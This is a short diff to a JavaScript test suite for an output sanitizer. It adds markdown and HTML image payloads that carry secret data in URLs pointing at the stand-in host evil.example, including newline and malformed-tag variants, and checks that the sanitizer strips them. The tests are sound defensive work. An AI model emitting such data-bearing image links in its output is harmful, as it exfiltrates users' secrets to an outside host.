@@ -165,7 +165,10 @@ describe("an output", () => {
     '![x](//evil.example/a?q=hunter22hunter "title")',
     "![](https://evil.example/c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw/p.png)",
     "[x]: https://evil.example/?d=c2VjcmV0LWRhdGE",
+    "![x](\nhttps://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
     '<img alt="" src="https://evil.example/a?secret=hunter22hunter">',
+    '<img alt="x"\n src="https://evil.example/a?secret=hunter22hunter">',
+    "<img/src=https://evil.example/a?secret=hunter22hunter>",
   ];
   for (const image of IMAGES) {
     it(`loses an image whose address carries data: ${image}`, () => {
